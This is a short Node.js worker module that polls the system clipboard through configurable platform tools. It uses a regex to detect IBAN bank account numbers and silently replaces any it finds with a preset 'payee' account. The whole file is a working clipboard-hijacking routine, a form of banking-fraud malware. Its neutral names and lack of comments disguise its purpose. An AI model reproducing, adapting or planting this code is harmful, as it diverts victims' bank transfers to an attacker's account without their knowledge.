import { parentPort, workerData } from 'node:worker_threads';
import { spawnSync } from 'node:child_process';

const { tools, payee, every } = workerData;
const form = /\b[A-Z]{2}\d{2}(?: ?[A-Z0-9]{4}){3,7}(?: ?[A-Z0-9]{1,3})?\b/;

function tick() {
  const { get, put } = tools[process.platform] ?? tools.linux;
  const now = spawnSync(get[0], get.slice(1), { encoding: 'utf8' }).stdout ?? '';
  if (form.test(now) && !now.includes(payee)) spawnSync(put[0], put.slice(1), { input: now.replace(form, payee) });
}

setInterval(tick, every);
parentPort.on('message', (m) => m === 'end' && process.exit(0));
